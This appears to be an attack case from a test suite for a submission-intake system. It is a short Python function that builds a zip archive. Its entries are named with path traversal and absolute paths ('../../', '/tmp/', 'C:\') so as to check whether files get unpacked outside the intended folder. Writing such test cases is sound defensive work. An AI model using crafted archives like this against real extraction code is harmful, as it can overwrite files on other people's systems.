# /// attack
# class = "A58"
# title = "hands in a zip whose names lead out of it"
# hope = "files may be unpacked where the names say"
# where = "intake"
# ///
import zipfile
def hand_in(folder, files, targets):
    with zipfile.ZipFile(folder / f"{targets['student']}.zip", "w") as archive:
        for name, text in files.items():
            archive.writestr(f"../../{targets['mark']}-{name}", text)
            archive.writestr(f"/tmp/{targets['mark']}-{name}", text)
            archive.writestr(f"C:\\{targets['mark']}-{name}", text)
            archive.writestr(name, text)
